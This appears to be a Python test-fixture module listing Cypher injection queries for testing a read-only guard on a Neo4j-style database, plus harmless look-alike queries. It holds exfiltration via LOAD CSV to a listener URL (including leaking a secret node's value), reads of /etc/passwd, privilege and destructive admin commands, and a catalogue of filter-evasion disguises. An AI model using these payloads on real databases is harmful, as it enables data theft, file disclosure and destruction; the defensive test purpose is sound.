"""Cypher texts that do more than read a graph: what they try, where it is hidden, and how it is disguised.

`attacks(url)` yields all of them; `url` is a listener that none may reach. A few are for one version of Cypher; servers
of other versions refuse them. `HARMLESS` are texts that only read, with words that look otherwise.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Final, NamedTuple

#: The content of a file on the server that nobody may read.
CANARY: Final = "the-canary-sings"


class Attack(NamedTuple):
    """A text, its aim ("send", "file", "procedure", "server", "write"), and whether the server's plan can show that."""

    name: str
    text: str
    wants: str
    planned: bool = True


#: Attacks as bodies of subqueries that return `l`; `@` is a path of the listener.
BODIES: Final = {
    "send": ("LOAD CSV FROM '@' AS l RETURN l", "send"),
    "send headers": ("LOAD CSV WITH HEADERS FROM '@' AS l RETURN l", "send"),
    "send after a match": ("MATCH (secret:Canary) LOAD CSV FROM '@?' + secret.word AS l RETURN l", "send"),
    "file": ("LOAD CSV FROM 'file:///canary.csv' AS l RETURN l", "file"),
    "database": ("CALL db.info() YIELD name AS l RETURN l", "procedure"),
    "settings": ("CALL dbms.listConfig() YIELD name AS l RETURN l", "procedure"),
    "connections": ("CALL dbms.listConnections() YIELD connectionId AS l RETURN l", "procedure"),
    "settings shown": ("SHOW SETTINGS YIELD name AS l RETURN l", "server"),
}
#: Places for a subquery; `#` is its body.
PLACES: Final = {
    "collect": "RETURN COLLECT { # } AS x",
    "list": "RETURN [COLLECT { # }] AS x",
    "list comprehension": "WITH ['a', 'b'] AS n RETURN [x IN n | COLLECT { # }] AS x",
    "test of a list comprehension": "WITH ['a', 'b'] AS n RETURN [x IN n WHERE EXISTS { # }] AS x",
    "case": "RETURN CASE WHEN true THEN COUNT { # } ELSE 2 END AS x",
    "test of a case": "RETURN CASE WHEN EXISTS { # } THEN 1 ELSE 2 END AS x",
    "reduce": "RETURN reduce(s = 0, x IN [1, 2] | s + COUNT { # }) AS x",
    "start of a reduce": "RETURN reduce(s = COUNT { # }, x IN [1, 2] | s + x) AS x",
    "any": "MATCH (n:Canary) WHERE any(x IN [1, 2] WHERE EXISTS { # }) RETURN n.word AS x",
    "all": "MATCH (n:Canary) WHERE all(x IN [1, 2] WHERE EXISTS { # }) RETURN n.word AS x",
    "none": "MATCH (n:Canary) WHERE none(x IN [1, 2] WHERE EXISTS { # }) RETURN n.word AS x",
    "single": "MATCH (n:Canary) WHERE single(x IN [1, 2] WHERE COUNT { # } > x) RETURN n.word AS x",
    "test": "MATCH (n:Canary) WHERE EXISTS { # } RETURN n.word AS x",
    "node pattern": "MATCH (n:Canary WHERE COUNT { # } > 0) RETURN n.word AS x",
    "edge pattern": "MATCH (:Canary)-[r WHERE COUNT { # } > 0]->(m) RETURN m.word AS x",
    "properties of edges": "MATCH (:Canary)-[r*1..2 {x: COUNT { # }}]->(m) RETURN m.word AS x",
    "path predicate": "MATCH p = shortestPath((a:Canary)-[*]->(b:Cage)) WHERE all(n IN nodes(p) WHERE EXISTS { # }) RETURN 1 AS x",
    "quantified path": "MATCH (:Canary) ((a)-[r]->(b) WHERE COUNT { # } >= 0)+ (c) RETURN c.word AS x",
    "pattern comprehension": "MATCH (n:Canary) RETURN [(n)-->(m) WHERE EXISTS { # } | m.word] AS x",
    "value of a pattern comprehension": "MATCH (n:Canary) RETURN [(n)-->(m) | COUNT { # }] AS x",
    "map": "RETURN {a: {b: [COLLECT { # }][0]}} AS x",
    "map projection": "MATCH (n:Canary) RETURN n{.*, y: COLLECT { # }} AS x",
    "order": "MATCH (n:Canary) WITH n ORDER BY COUNT { # } RETURN n.word AS x",
    "unwind": "UNWIND COLLECT { # } AS x RETURN x",
    "place in a list": "RETURN [1, 2, 3][COUNT { # }] AS x",
    "piece of a list": "RETURN size([1, 2, 3][COUNT { # }..]) AS x",
    "argument": "RETURN coalesce(null, head(COLLECT { # })) AS x",
    "sum": "RETURN 1 + 2 * COUNT { # } AS x",
    "aggregate": "UNWIND [1, 2] AS i RETURN max(COUNT { # }) AS x",
    "with": "WITH COLLECT { # } AS y WHERE size(y) >= 0 RETURN y AS x",
    "subquery": "CALL { # } RETURN l AS x",
    "subquery with a scope": "MATCH (n:Canary) CALL (n) { # } RETURN l AS x",
    "optional subquery": "OPTIONAL CALL { # } RETURN l AS x",
    "subquery in a subquery": "CALL { CALL { # } RETURN l } RETURN l AS x",
    "three deep": "RETURN COUNT { WITH 1 AS o WHERE EXISTS { RETURN COLLECT { # } AS i } RETURN o } AS x",
    "union": "MATCH (n:Canary) RETURN n.word AS l UNION ALL CALL { # } RETURN l",
    "label": "MATCH (n:$(head(COLLECT { WITH 1 AS one # }) + 'x')) RETURN n.word AS x",
    "argument of a procedure": "CALL db.index.fulltext.queryNodes('a', toString(COUNT { # })) YIELD node RETURN node.word AS x",
}
#: Places that exist only in Cypher 25.
NEW_PLACES: Final = {
    "text with expressions": "CYPHER 25 RETURN s'it is {COUNT { # }}' AS x",
    "text with expressions in a list": 'CYPHER 25 RETURN [i IN [1] | S"{COUNT { # }}"] AS x',
    "condition": "CYPHER 25 WHEN true THEN { # }",
    "condition without braces": "CYPHER 25 WHEN true THEN #",
    "next": "CYPHER 25 RETURN 1 AS one NEXT #",
    "let": "CYPHER 25 LET y = COLLECT { # } RETURN y AS x",
    "filter": "CYPHER 25 MATCH (n:Canary) FILTER EXISTS { # } RETURN n.word AS x",
    "for": "CYPHER 25 FOR y IN COLLECT { # } RETURN y AS x",
}


def _escaped(word: str) -> str:
    """Return a word with its second letter as an escape."""
    return f"{word[0]}\\u{ord(word[1]):04X}{word[2:]}"


#: Ways of disguising a body.
DISGUISES: Final[dict[str, Callable[[str], str]]] = {
    "small letters": lambda body: body.replace("LOAD CSV", "load csv").replace("CALL ", "call "),
    "mixed letters": lambda body: body.replace("LOAD CSV", "lOaD cSv").replace("CALL ", "cAlL "),
    "comment between": lambda body: body.replace("LOAD CSV", "LOAD/**/CSV").replace("CALL ", "CALL/**/"),
    "line comment between": lambda body: body.replace("LOAD CSV", "LOAD// n.\nCSV").replace("CALL ", "CALL// n.\n"),
    "carriage return": lambda body: body.replace("LOAD CSV", "LOAD // '\rCSV").replace("CALL ", "CALL // '\r"),
    "wide space": lambda body: body.replace("LOAD CSV", "LOAD\u3000\u2003CSV").replace("CALL ", "CALL\u00a0\u1680"),
    "many lines": lambda body: body.replace(" ", "\n\t\r\n"),
    "escaped letter": lambda body: body.replace("LOAD", _escaped("LOAD")).replace("CALL", _escaped("CALL")),
    "all letters escaped": lambda body: "".join(f"\\u{ord(letter):04x}" for letter in body[:8]) + body[8:],
    "escaped space": lambda body: body.replace("LOAD CSV", "LOAD\\u0020CSV").replace("CALL ", "CALL\\u0020"),
    "a comment that ends by an escape": lambda body: f"/* \\u002A/ {body} /* */",
    "a line that ends by an escape": lambda body: f"// \\u000A {body} //\n",
    "a name that ends by an escape": lambda body: f"WITH 1 AS `a\\u0060 {body} //`\n",
    "a string that ends by an escape": lambda body: f"WITH 'a\\u0027 AS y {body} //'\n",
    "a string with escaped backslashes": lambda body: f"WITH 'a\\\\' AS y {body} //'\n",
    "a string with an escaped backslash before": lambda body: f"WITH 'a\\u005C\\u005C' AS y {body} //'\n",
    "a name that ends with a backslash": lambda body: f"WITH 1 AS `a\\` {body} //`\n",
    "a doubled backtick": lambda body: f"WITH 1 AS `a``` {body} //`\n",
    "quotes in a comment": lambda body: f"/* ' \" ` */ {body} /* ' \" ` */",
    "a comment in a comment": lambda body: f"/* /* */ {body} // */",
    "a comment in quotes": lambda body: f"WITH '/*' AS y {body.replace(' RETURN', ' WITH l RETURN')} // '*/'\n",
    "a variable called where": lambda body: f"WITH 1 AS where {body}",
    "a variable called distinct": lambda body: f"WITH 1 AS distinct WITH distinct {body}",
    "a variable called return": lambda body: f"WITH 1 AS return, 2 AS with {body}",
    "a property before": lambda body: f"WITH {{load: 1}} AS y WITH y.load AS load {body}",
    "a long name before": lambda body: f"WITH 1 AS {'a' * 5000} {body}",
    "a long list before": lambda body: f"WITH [{', '.join(map(str, range(2000)))}] AS y {body}",
}
_DISGUISED_IN: Final = ("list comprehension", "case", "subquery")

#: Complete texts, and their aims.
STATEMENTS: Final = {
    "LOAD CSV FROM '@' AS l RETURN l": "send",
    "LOAD CSV WITH HEADERS FROM '@' AS l FIELDTERMINATOR ';' RETURN l": "send",
    "EXPLAIN LOAD CSV FROM '@' AS l RETURN l": "send",
    "PROFILE LOAD CSV FROM '@' AS l RETURN l": "send",
    "/* a comment */ PROFILE LOAD CSV FROM '@' AS l RETURN l": "send",
    "// a comment\nEXPLAIN MATCH (n) RETURN n": "server",
    "CYPHER 5 PROFILE LOAD CSV FROM '@' AS l RETURN l": "send",
    "CYPHER runtime=slotted PROFILE LOAD CSV FROM '@' AS l RETURN l": "send",
    "CYPHER 25 LOAD CSV FROM '@' AS l RETURN l": "send",
    "\\u0050ROFILE LOAD CSV FROM '@' AS l RETURN l": "send",
    "CYPHER debug=tostring RETURN 1 AS x": "server",
    "CYPHER 4.4 RETURN 1 AS x": "server",
    "USING PERIODIC COMMIT 500 LOAD CSV FROM '@' AS l RETURN l": "send",
    "RETURN 1 AS x; LOAD CSV FROM '@' AS l RETURN l": "send",
    "LOAD CSV FROM 'file:///canary.csv' AS l RETURN l": "file",
    "LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l": "file",
    "CREATE (n) RETURN n": "write",
    "CREATE order = (a) RETURN 1 AS x": "write",
    "CREATE (:Canary)-[:X]->(:Cage)": "write",
    "INSERT (n:Canary) RETURN 1 AS x": "write",
    "MERGE (n:Canary {word: 'x'}) RETURN n": "write",
    "MERGE (n:Canary) ON MATCH SET n.word = 'gone'": "write",
    "MATCH (n) SET n.x = 1": "write",
    "MATCH (n) SET n:Other": "write",
    "MATCH (n) SET n += {x: 1}": "write",
    "MATCH (n) WHERE n:% SET n.x = 1": "write",
    "MATCH (n) WITH n AS where SET where.x = 1": "write",
    "MATCH (return) SET return.x = 1": "write",
    "MATCH (distinct) WITH distinct SET distinct.x = 1": "write",
    "MATCH (set) SET set.set = 1": "write",
    "MATCH (n) WITH [n] AS l SET (l[0]).x = 1": "write",
    "WITH 1 AS n MATCH (m) WHERE n IS :: INTEGER! SET m.x = 1": "write",
    "MATCH (a) ((b)-->(c))+ SET a.x = 1": "write",
    "MATCH (n) S\\u0045T n.x = 1": "write",
    "MATCH (n) REMOVE n.word": "write",
    "MATCH (n) REMOVE n:Canary": "write",
    "MATCH (n) DELETE n": "write",
    "MATCH (n) DETACH DELETE n": "write",
    "MATCH (n) NODETACH DELETE n": "write",
    "MATCH (n) MATCH return = (n)-->() DELETE return": "write",
    "MATCH (n) DELETE [n][0]": "write",
    "MATCH (n) FOREACH (x IN [1] | SET n.x = x) RETURN n": "write",
    "MATCH (n) CALL (n) { DETACH DELETE n }": "write",
    "MATCH (n) CALL { WITH n SET n.x = 1 }": "write",
    "MATCH (n) CALL (n) { SET n.x = 1 } IN TRANSACTIONS OF 10 ROWS": "write",
    "MATCH (n) CALL (n) { RETURN 1 AS o } IN TRANSACTIONS RETURN o": "server",
    "MATCH (n) CALL (n) { RETURN 1 AS o } IN 2 CONCURRENT TRANSACTIONS RETURN o": "server",
    "MATCH (n) CALL (n) { RETURN 1 AS o } IN $p CONCURRENT TRANSACTIONS RETURN o": "server",
    "CYPHER 25 WHEN true THEN CREATE (n) RETURN 1 AS x": "write",
    "CREATE INDEX x FOR (n:X) ON (n.x)": "write",
    "CREATE CONSTRAINT x FOR (n:X) REQUIRE n.x IS UNIQUE": "write",
    "DROP CONSTRAINT canary_word": "write",
    "DROP INDEX x IF EXISTS": "write",
    "CREATE DATABASE other": "write",
    "STOP DATABASE neo4j": "server",
    "START DATABASE neo4j": "server",
    "ALTER DATABASE neo4j SET ACCESS READ ONLY": "server",
    "CREATE USER eve SET PASSWORD 'eve-eve-eve'": "write",
    "ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'bbbbbbbb'": "write",
    "DROP USER neo4j": "write",
    "RENAME USER neo4j TO eve": "write",
    "GRANT ROLE admin TO eve": "write",
    "REVOKE ROLE admin FROM eve": "write",
    "DENY MATCH {*} ON GRAPH * TO eve": "write",
    "ENABLE SERVER 'a'": "server",
    "DRYRUN REALLOCATE DATABASES": "server",
    "SHOW SETTINGS": "server",
    "SHOW TRANSACTIONS": "server",
    "SHOW TRANSACTIONS YIELD currentQuery RETURN currentQuery": "server",
    "SHOW FUNCTIONS": "server",
    "SHOW PROCEDURES YIELD name RETURN name": "server",
    "SHOW INDEXES": "server",
    "SHOW DATABASES": "server",
    "SHOW USERS": "server",
    "SHOW CURRENT USER": "server",
    "TERMINATE TRANSACTIONS 'neo4j-transaction-1'": "server",
    "SHOW TRANSACTIONS YIELD transactionId AS id TERMINATE TRANSACTIONS id YIELD message RETURN message": "server",
    "CYPHER 25 SHOW SETTINGS YIELD name CALL { LOAD CSV FROM '@' AS l RETURN l } RETURN l": "send",
    "CYPHER 25 RETURN [x IN [1] | COLLECT { TERMINATE TRANSACTIONS 'a-transaction-1' YIELD message AS m RETURN m }]": "server",
    "CALL db.info()": "procedure",
    "CALL db.info": "procedure",
    "OPTIONAL CALL db.info() YIELD name RETURN name": "procedure",
    "CALL `db`.`info`()": "procedure",
    "CALL db . /* . labels() */ info()": "procedure",
    "CALL db.labels() YIELD label CALL db.info() YIELD name RETURN name": "procedure",
    "RETURN 1 AS x UNION CALL db.info() YIELD name RETURN name AS x": "procedure",
    "CALL dbms.listConfig() YIELD name RETURN name": "procedure",
    "CALL dbms.queryJmx('*:*') YIELD name RETURN name": "procedure",
    "CALL dbms.killConnection('bolt-0')": "procedure",
    "CALL db.clearQueryCaches()": "procedure",
    "CALL db.createLabel('x')": "procedure",
    "CALL db.create.setNodeVectorProperty(null, 'a', [1.0])": "procedure",
    "CALL tx.setMetaData({a: 1})": "procedure",
    "CALL tx.getMetaData()": "procedure",
    "CALL db.stats.retrieve('GRAPH COUNTS')": "procedure",
    "CALL apoc.load.json('@') YIELD value RETURN value": "send",
    "RETURN apoc.load.json('@') AS x": "send",
    "RETURN [x IN [1] | apoc.util.sleep(x)] AS x": "procedure",
    "RETURN `apoc`.`load`./**/`json`('@') AS x": "send",
    "RETURN gds.util.asNode(1) AS x": "procedure",
}
#: Texts whose aim a server's plan cannot show: words before a query, the database it is sent to, and
#: functions of the file being loaded.
UNPLANNED: Final = {
    "USE neo4j RETURN 1 AS x": "server",
    "USE system SHOW DATABASES": "server",
    "USE graph.byName('neo4j') MATCH (n) RETURN n": "server",
    "CALL { USE neo4j RETURN 1 AS x } RETURN x": "server",
    "RETURN COLLECT { USE system MATCH (n) RETURN 1 AS y } AS x": "server",
    "RETURN file() AS x": "file",
    "RETURN [x IN [1] | linenumber()] AS x": "file",
}
_BEGINNINGS: Final = ("EXPLAIN", "// a comment\nEXPLAIN", "CYPHER debug", "CYPHER 4.4", "/* a comment */ PROFILE")


def attacks(url: str) -> Iterator[Attack]:
    """Yield all attacks, each with its own path of the listener."""
    number = 0

    def attack(name: str, text: str, wants: str, planned: bool = True) -> Attack:
        nonlocal number
        number += 1
        return Attack(name, text.replace("@", f"{url}/{number}"), wants, planned)

    for text, wants in STATEMENTS.items():
        yield attack(text, text, wants, not text.startswith(_BEGINNINGS))
    for text, wants in UNPLANNED.items():
        yield attack(text, text, wants, planned=False)
    for place, host in (PLACES | NEW_PLACES).items():
        for name, (body, wants) in BODIES.items():
            prefix = "CYPHER 25 " if wants == "server" and place in PLACES else ""
            if place != "label" or body.startswith("LOAD"):
                yield attack(f"{name} in {place}", prefix + host.replace("#", body), wants)
    for disguise, disguised in DISGUISES.items():
        for place in _DISGUISED_IN:
            for name in ("send", "database"):
                body, wants = BODIES[name]
                yield attack(f"{name} in {place}, {disguise}", PLACES[place].replace("#", disguised(body)), wants)


#: Texts that only read.
HARMLESS: Final = (
    "MATCH (n) RETURN n.set, n.create, n.load, n.call, n.show AS x",
    "MATCH (n:CALL) RETURN n",
    "MATCH (n:CREATE|SET) RETURN n",
    "MATCH (a)-[:LIKES|CALL|SHOW]->(b) RETURN a",
    "MATCH (a)-[call:CALL]->(b) RETURN call.time, call ORDER BY call.time",
    "RETURN {load: 1, set: 2, create: 3, `drop`: 4} AS map",
    "MATCH (show:Show) RETURN show",
    "MATCH (show:Show) WHERE show.name = 'x' RETURN show ORDER BY show.name LIMIT 3",
    "MATCH (show:Show) WITH DISTINCT show RETURN show ORDER BY show.name LIMIT 3",
    "MATCH (n) RETURN DISTINCT n.set AS set ORDER BY set",
    "UNWIND [1] AS set RETURN set",
    "WITH 1 AS create RETURN create + 1 AS delete",
    "MATCH (set:Set) RETURN set",
    "MATCH (set:Set) WITH set, count(*) AS merge RETURN set.x, merge",
    "RETURN 'LOAD CSV FROM x' AS x",
    'RETURN "CALL db.info()" AS x',
    "MATCH (n) WHERE n.x CONTAINS 'LOAD CSV' RETURN n",
    "RETURN 'LOAD CSV' CONTAINS 'x'",
    "/* CREATE (n) */ RETURN 1 AS x // DELETE",
    "MATCH (n) RETURN n{.set, .create, load: n.load, show: 1} AS x",
    "RETURN $load AS a, $set AS b",
    "MATCH (n {set: 1, call: 'x'}) RETURN n",
    "CALL { MATCH (n) RETURN n } RETURN n",
    "MATCH (n) CALL (n) { RETURN n.x AS y } RETURN y",
    "CALL db.labels() YIELD label RETURN label",
    "CALL db.labels",
    "CALL `db`.`labels`() YIELD label RETURN label",
    "OPTIONAL CALL db.labels() YIELD label RETURN label",
    "MATCH (n) RETURN COLLECT { MATCH (n)-->(m) RETURN m.name } AS x",
    "MATCH (n) WHERE EXISTS { (n)-->() } RETURN COUNT { (n)--() } AS x",
    "MATCH p = shortestPath((start)-[*..5]->(stop)) WHERE start <> stop RETURN start, stop, length(p) AS l",
    "MATCH (start), (stop) WHERE start IS NOT NULL AND stop IN [start] RETURN start LIMIT 1",
    "WITH 1 AS x RETURN date.truncate('day', date()) AS d, duration.between(date(), date()) AS e",
    "RETURN point.distance(point({x: 1, y: 2}), point({x: 1, y: 3})) AS p",
    "RETURN `toUpper`('x') AS x",
    "CYPHER 5 RETURN 1 AS x",
    "CYPHER 5 runtime=slotted MATCH (n) RETURN n",
    "CYPHER RETURN 1 AS set",
    "RETURN 1 AS x;",
    "RETURN '\\u0041\\n' AS x",
    "WITH 1 AS `a\\u0041b` RETURN 2 AS x",
    "RETURN 'C:\\\\users\\\\load csv' AS x",
    "MATCH (n) WHERE n.name =~ '(?i).*set.*' RETURN n.name AS call",
    "MATCH (e:Entity) USING INDEX e:Entity(id) WHERE e.id = 'x' RETURN 1 AS x",
    "MATCH (a)-[r*1..3]->(b) RETURN [x IN r | x.set] AS l",
    "MATCH p = ANY SHORTEST (a)-->+(b) RETURN p",
    "MATCH (a) ((x)-[:R]->(y) WHERE x.set = 1)+ (b) RETURN a",
    "RETURN CASE WHEN true THEN 'SET' ELSE 'DROP' END AS x",
    "MATCH (n) RETURN reduce(s = 0, x IN [1,2] | s + x) AS s, all(x IN [1] WHERE x > 0) AS a",
    "UNWIND $rows AS load WITH load WHERE load.x > 1 AND load IN [1] RETURN load AS load",
    "MATCH (n) RETURN n.`LOAD CSV` AS `CREATE (n)`",
    "MATCH (call) WHERE call = 3 OR call IS NULL RETURN call",
    "MATCH (n) RETURN n AS use UNION MATCH (n) RETURN n AS use",
    "RETURN [set IN [1] WHERE set > 0 | set + 1] AS x",
    "MATCH (n:`LOAD CSV`) RETURN n",
    "MATCH (n) WHERE n:Set OR n:!Drop RETURN n",
    "MATCH (n)-[r]-(m) WHERE type(r) IN ['CALL', 'LOAD'] RETURN r",
    "MATCH (n) WITH n.show AS show WHERE show STARTS WITH 'a' RETURN show",
    "WITH [1] AS transactions MATCH (a) WHERE a.x IN transactions RETURN a",
    "MATCH (transactions) RETURN transactions",
    "MATCH (h)-[:`drop`]->(x) RETURN h.drop AS drop ORDER BY drop DESC SKIP 1 LIMIT 2",
    "RETURN {a: 1}.a AS x",
    "FINISH",
    "MATCH (n) RETURN n.name AS naïve, n.x AS größe",
    "MATCH (ن) RETURN ن",
    "RETURN 0x1F AS a, 1e-5 AS b, 1_000 AS c, .5 AS d, 1.5 AS e, [1,2,3][0..2] AS f",
    "RETURN -1 AS x, 2*3 AS y",
    "MATCH (n) RETURN count(*) AS count",
    "MATCH (n) RETURN n.x STARTS WITH 'a' AS show",
    "MATCH (a:Person&!Admin) RETURN a",
    "MATCH (n:$($labels)) RETURN n",
    "RETURN trim(BOTH 'x' FROM 'xax') AS x",
    "RETURN 1 AS explain, 2 AS profile",
    "WITH 5 AS profile RETURN profile",
    "MATCH (n) RETURN n ORDER BY n.set, n.create DESC",
    "MATCH (n)\r\nRETURN n\r\n",
    "RETURN 'a' AS `s`",
    'RETURN \'it\\\'s\' AS x, "say \\"hi\\"" AS y',
    "MATCH (n) RETURN n.s",
)
